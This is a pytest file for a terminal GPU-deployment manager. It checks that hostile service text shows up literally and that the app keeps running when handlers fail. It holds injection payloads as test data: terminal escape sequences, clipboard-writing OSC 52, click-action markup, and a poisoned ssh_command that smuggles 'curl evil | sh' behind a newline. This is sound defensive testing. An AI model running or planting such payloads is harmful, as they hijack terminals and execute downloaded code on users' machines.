"""Outside text is data: hostile strings from the service are shown literally and do nothing.

A transport between the app and the simulator appends a payload to every name, msg and
credential the service sends; the real screens are opened by keys and their rendered text
checked (the pty tests in tests/security look at the raw terminal bytes). Also: an
exception in a message handler or action is reported and the app keeps running.
"""

from __future__ import annotations

import json
from typing import Any

import httpx
import pytest
from app_helpers import SIZE, Recorder, build_app, loaded, notifications, opened, select, until

from autodl_tui.ui.container_detail import ContainerDetailScreen
from autodl_tui.ui.dialogs import ConfirmDialog, DeleteDialog, ScaleDialog
from autodl_tui.ui.failures import LastErrorScreen
from autodl_tui.ui.main_screen import MainScreen
from autodl_tui.ui.panes import ContainersTable

MARKUP = "[/][@click=app.quit]Q[/]"
OSC52 = "\x1b]52;c;cHduZWQ=\x07"
PAYLOAD = f"{MARKUP}{OSC52}\x1b[2J\x1b]0;title\x07\u202e\x9b"
#: The fields the service fills with text someone else typed or the service made.
HOSTILE_FIELDS = {"name", "msg", "machine_id", "image_name", "gpu_name", "ssh_command"}
INJECTED_SSH = "ssh -p 1 root@h\n; curl evil | sh"


def _poison(value: Any) -> Any:
    if isinstance(value, dict):
        out = {}
        for key, item in value.items():
            if key == "ssh_command" and isinstance(item, str) and item:
                out[key] = INJECTED_SSH
            elif key in HOSTILE_FIELDS and isinstance(item, str) and item:
                out[key] = item + PAYLOAD
            else:
                out[key] = _poison(item)
        return out
    if isinstance(value, list):
        return [_poison(v) for v in value]
    return value


class Hostile(Recorder):
    """Forwards to the simulator and poisons every answer's outside text."""

    async def forward(self, request: httpx.Request) -> httpx.Response:
        response = await super().forward(request)
        body = json.loads(await response.aread())
        if isinstance(body, dict) and body.get("code") != "Success":
            body["msg"] = f"{body.get('msg', '')}{PAYLOAD}"
        return httpx.Response(response.status_code, json=_poison(body))


@pytest.fixture
def hostile(recorder: Recorder) -> Hostile:
    return Hostile(recorder.inner)


def _shown(app: Any) -> str:
    return app.export_screenshot()


def _assert_inert(app: Any) -> None:
    """Nothing of the payload drives the terminal; its printable part shows literally."""
    svg = _shown(app)
    assert "\x1b" not in svg and "\x07" not in svg and "\x9b" not in svg
    assert "\u202e" not in svg
    assert app.is_running


async def test_hostile_names_show_literally_on_every_screen(
    hostile: Hostile, config_path: Any, no_clipboard: None
) -> None:
    app = build_app(hostile)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        screen = await loaded(pilot, app)
        name = next(d.name for d in screen.deployments.values() if d.name.startswith("llm-serve"))
        assert name.endswith(PAYLOAD)
        await select(pilot, app, name)
        _assert_inert(app)
        # The pane title names the deployment: literal, and clicking it runs nothing.
        title = screen.query_one("#pane-containers").border_title or ""
        assert "[@click" in title.replace("\\[", "[")
        await pilot.click("#pane-containers", offset=(4, 0))
        assert app.is_running
        for key, kind in (("s", ScaleDialog), ("ctrl+d", DeleteDialog)):
            await opened(pilot, app, key, kind)
            _assert_inert(app)
            assert "[@click=app.quit]Q[/]" in "".join(
                str(w.render()) for w in app.screen.query("Static")
            )
            await pilot.press("escape")
            await until(pilot, lambda: isinstance(app.screen, MainScreen))
        await pilot.press("2")
        await opened(pilot, app, "enter", ContainerDetailScreen)
        _assert_inert(app)
        await pilot.press("q")
        await until(pilot, lambda: isinstance(app.screen, MainScreen))
        await opened(pilot, app, "E", LastErrorScreen)
        _assert_inert(app)
        await pilot.press("escape")
        assert app.is_running


async def test_an_odd_ssh_command_is_shown_and_asked_before_copying(
    hostile: Hostile, config_path: Any, no_clipboard: None
) -> None:
    app = build_app(hostile)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        screen = await loaded(pilot, app)
        name = next(d.name for d in screen.deployments.values() if d.name.startswith("l20-infer"))
        await select(pilot, app, name)
        await pilot.press("2")
        assert screen.query_one("#containers", ContainersTable).cursor_key
        dialog = await opened(pilot, app, "c", ConfirmDialog)
        shown = "".join(str(w.render()) for w in dialog.query("Static"))
        assert "ssh -p 1 root@h␊; curl evil | sh" in shown
        await pilot.press("n")
        await until(pilot, lambda: isinstance(app.screen, MainScreen))
        assert app.clipboard == ""
        assert "not copied" in notifications(app)
        await opened(pilot, app, "c", ConfirmDialog)
        await pilot.press("y")
        await until(pilot, lambda: app.clipboard == INJECTED_SSH)


async def test_a_bug_in_a_handler_is_reported_and_the_app_keeps_running(
    make_app: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    app = make_app()
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        screen = await loaded(pilot, app)

        def broken(*_args: object) -> None:
            raise RuntimeError("boom in layout")

        monkeypatch.setattr(screen, "_apply_layout", broken)
        await pilot.press("z")  # an action
        await until(pilot, lambda: "boom in layout" in notifications(app))
        await pilot.resize_terminal(120, 35)  # a message handler (on_resize)
        await pilot.pause(0.2)
        assert app.is_running and app.return_code is None
        assert app.last_error is not None and "boom" in app.last_error.message
        # The screen's message loop still runs: keys still act.
        monkeypatch.undo()
        await pilot.press("3")
        await until(pilot, lambda: screen.current_pane == "events")


async def test_hostile_template_names_and_clones_fill_nothing_raw(
    hostile: Hostile, config_path: Any, no_clipboard: None
) -> None:
    from autodl_tui.ui.create_form import CreateFormScreen
    from autodl_tui.ui.template_dialogs import TemplatePickDialog

    folder = config_path.parent / "templates"
    folder.mkdir()
    (folder / "x[b]y[@click=app.quit]z.toml").write_text('name = "t"\n', encoding="utf-8")
    app = build_app(hostile)
    async with app.run_test(size=SIZE, notifications=True) as pilot:
        screen = await loaded(pilot, app)
        name = next(d.name for d in screen.deployments.values() if d.name.startswith("llm-serve"))
        await select(pilot, app, name)
        # The clone's name holds the payload: shown with visible stand-ins, and refused.
        form = await opened(pilot, app, "C", CreateFormScreen)
        await pilot.pause(0.2)
        value = form.query_one("#name").value  # type: ignore[attr-defined]
        assert "\x1b" not in value and "␛" in value
        assert "control characters" in form.problems["name"] or "stand-ins" in form.problems["name"]
        _assert_inert(app)
        await opened(pilot, app, "ctrl+o", TemplatePickDialog)
        _assert_inert(app)
        assert "x[b]y[@click=app.quit]z" in app.export_screenshot().replace("&#160;", " ")
        await pilot.press("enter")
        await pilot.pause(0.3)
        assert app.is_running
